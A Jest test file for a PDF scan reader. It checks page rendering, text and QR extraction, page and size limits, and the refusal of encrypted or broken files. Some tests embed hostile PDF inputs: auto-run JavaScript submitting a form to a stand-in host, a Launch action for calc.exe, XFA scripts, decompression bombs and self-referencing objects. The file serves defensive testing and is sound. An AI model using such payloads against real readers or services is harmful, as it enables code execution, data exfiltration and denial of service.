import sharp from 'sharp';
import { isBareJpeg } from './bare-jpeg';
import { deflateBomb } from './deflate-bomb.testing';
import { pdfOf, streamOf, words } from './pdf.testing';
import { colourAt, qrOf, sheet } from './pictures.testing';
import { colours, half, ReaderToTry, sizes } from './process-scan-reader.testing';
import { scanLimits } from './scan-reader.port';

jest.setTimeout(60_000);

const reference = 'KINSENT:K7QX3MPA9D';
const at = new ReaderToTry();

describe('a PDF that somebody sent in', () => {
  it('draws each page, and reads the words in it', async () => {
    const scan = await at.read(
      pdfOf({ pages: [words('Reference K7QX3-MPA9D'), '1 0 0 rg 0 0 600 900 re f', words('three')] }),
    );
    expect(await sizes(scan)).toEqual([
      [1600, 2264],
      [1600, 2264],
      [1600, 2264],
    ]);
    expect(await colourAt(scan.pages[1]!, 0.5, 0.5)).toEqual([
      expect.any(Number),
      expect.any(Number),
      expect.any(Number),
    ]);
    const [red, green] = await colourAt(scan.pages[1]!, 0.5, 0.5);
    expect([red! > 243, green! < 12]).toEqual([true, true]);
    expect(scan.text).toMatch(/Reference K7QX3-MPA9D\s+three/);
  });

  it('reads a code that is drawn in it', async () => {
    const { data, info } = await sharp(await qrOf(reference, 200))
      .greyscale()
      .raw()
      .toBuffer({ resolveWithObject: true });
    const image = `/Type /XObject /Subtype /Image /Width ${info.width} /Height ${info.height} /ColorSpace /DeviceGray /BitsPerComponent 8`;
    const pdf = pdfOf({
      pages: ['q 90 0 0 90 450 700 cm /X0 Do Q'],
      objects: [Buffer.concat(streamOf(data, image).map((part) => Buffer.from(part as string, 'latin1')))],
    });
    expect((await at.read(pdf)).codes).toEqual([reference]);
  });

  it('keeps so many bytes of its words', async () => {
    const line = (page: number) =>
      Array.from(
        { length: 60 },
        (_, row) => `BT /F1 6 Tf 20 ${12 * row + 20} Td (${`w${page}`.repeat(100)}) Tj ET`,
      ).join('\n');
    const { text } = await at.read(pdfOf({ pages: [line(1), line(2), line(3)] }));
    expect(Buffer.byteLength(text)).toBeGreaterThan(scanLimits.textBytes - 10);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(scanLimits.textBytes);
  });

  it('takes twenty pages, and not one more, over all files', async () => {
    const pages = (count: number) =>
      pdfOf({ pages: Array.from({ length: count }, (_, page) => words(`${page}`)), box: [60, 60] });
    expect((await at.read(pages(19), await sheet('#abc').jpeg().toBuffer())).pages).toHaveLength(20);
    expect(await at.fault(pages(21))).toEqual({ fault: 'too-many-pages', file: '0' });
    expect(await at.fault(pages(20), await sheet('#abc').jpeg().toBuffer())).toEqual({
      fault: 'too-many-pages',
      file: '1',
    });
  });

  it('draws paper of any size within the limits of a page', async () => {
    const scan = [
      await sizes(await at.read(pdfOf({ box: [14_400, 14_400] }))),
      await sizes(await at.read(pdfOf({ box: [100_000, 10] }))),
      await sizes(await at.read(pdfOf({ box: [1, 1_000_000] }))),
    ].flat();
    for (const [width, height] of scan) {
      expect(width).toBeLessThanOrEqual(scanLimits.pageWidth);
      expect(height).toBeLessThanOrEqual(scanLimits.pageHeight);
    }
  });

  it.each([
    [
      'a script that runs when it is opened',
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://x.example"\\)) >>',
    ],
    ['a program that it starts', '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>'],
    ['a page that it fetches', '/OpenAction << /S /URI /URI (http://127.0.0.1:9/x) >>'],
    ['scripts by name', '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>'],
    ['a form in XFA', '/AcroForm << /Fields [] /XFA [(template) 100 0 R] >>'],
  ])('draws one with %s, and what comes of it is pixels', async (_, catalogue) => {
    const objects = streamOf('<template><script>xfa.host.messageBox("1")</script></template>').join('');
    const { pages, text } = await at.read(
      pdfOf({ catalogue, objects: [objects], page: '/AA << /O << /S /JavaScript /JS (app.alert\\(2\\)) >> >>' }),
    );
    expect(pages.map(isBareJpeg)).toEqual([true]);
    expect(text).toBe('Hello');
    expect(pages[0]!.toString('latin1')).not.toMatch(/script|alert|calc|127\.0/i);
  });

  it('draws what a parent filled in and drew on it', async () => {
    const box =
      '<< /Type /Annot /Subtype /Square /Rect [100 100 500 700] /IC [0 0 1] /C [0 0 1] /F 4 /AP << /N 101 0 R >> >>';
    const look = streamOf('0 0 1 rg 0 0 400 600 re f', '/Type /XObject /Subtype /Form /BBox [0 0 400 600]').join('');
    const field =
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 90 90] /F 4 /V /Yes /AS /Yes /AP << /N << /Yes 101 0 R >> >> >>';
    const scan = await at.read(
      pdfOf({
        page: '/Annots [100 0 R 102 0 R]',
        catalogue: '/AcroForm << /Fields [102 0 R] >>',
        objects: [box, look, field],
      }),
    );
    expect((await colours(scan))[0]![2]).toBeGreaterThan(200);
    expect((await colours(scan))[0]![0]).toBeLessThan(50);
    const [red] = await colourAt(scan.pages[0]!, 45 / 595, 1 - 45 / 842);
    expect(red).toBeLessThan(50);
  });

  it('refuses one that is locked', async () => {
    const key = `<${'41'.repeat(32)}>`;
    const locked = pdfOf({
      trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O ${key} /U ${key} >>`,
    });
    expect(await at.fault(locked)).toEqual({ fault: 'encrypted', file: '0' });
    const foreign = pdfOf({ trailer: '/Encrypt << /Filter /Adobe.PubSec /V 4 >>' });
    expect(await at.fault(foreign)).toEqual({ fault: 'encrypted', file: '0' });
  });

  it.each<[string, () => Buffer]>([
    ['is only a beginning', () => Buffer.from('%PDF-1.7\n')],
    ['has no pages', () => pdfOf({ pages: [] })],
    ['is noise behind a mark', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000, 0xa5)])],
    ['is a page of a browser behind a mark', () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>')],
  ])('refuses one that %s', async (_, make) => {
    expect(await at.fault(make())).toEqual({ fault: 'broken', file: '0' });
  });

  it('is not kept by one that is cut off', async () => {
    expect(['read', { fault: 'broken', file: '0' }]).toContainEqual(
      await at.fault(half(pdfOf({ pages: Array.from({ length: 9 }, () => words('x')) }))),
    );
  });

  it.each<[string, () => Buffer]>([
    [
      'eight hundred million blanks for a page',
      () => pdfOf({ pages: [deflateBomb(800, 0x20)], stream: '/Filter /FlateDecode' }),
    ],
    [
      'a picture of half a thousand million dots',
      () =>
        pdfOf({
          pages: ['595 0 0 842 0 0 cm /X0 Do'],
          objects: [
            Buffer.concat(
              streamOf(
                deflateBomb(576),
                '/Filter /FlateDecode /Type /XObject /Subtype /Image /Width 24000 /Height 24000 /ColorSpace /DeviceGray /BitsPerComponent 8',
              ).map((part) => Buffer.from(part as string, 'latin1')),
            ),
          ],
        }),
    ],
    ['pages that are themselves', () => pdfOf({ catalogue: '/Pages 1 0 R' })],
    [
      'a picture that draws itself',
      () =>
        pdfOf({
          pages: ['/X0 Do'],
          objects: [
            streamOf(
              '/X0 Do /X0 Do',
              '/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X0 100 0 R >> >>',
            ).join(''),
          ],
        }),
    ],
  ])('is not blown up by %s', async (_, make) => {
    const came = await at.fault(make());
    expect(['read', 'broken', 'timed-out']).toContain(came === 'read' ? came : came.fault);
    // And the next one is served.
    expect(await at.fault(pdfOf())).toBe('read');
  });

  it('is given up when it would be drawn for hours', async () => {
    const dashes = pdfOf({ pages: ['[0.00001 0.00001] 0 d 0 0 m 600 900 l S'] });
    const hasty = new ReaderToTry(4000);
    const began = performance.now();
    expect(await hasty.fault(dashes)).toEqual({ fault: 'timed-out', file: '0' });
    expect(performance.now() - began).toBeLessThan(10_000);
    expect(hasty.warned).toEqual([['the process that reads files fell or was ended', { code: 'timed-out' }]]);
  });
});
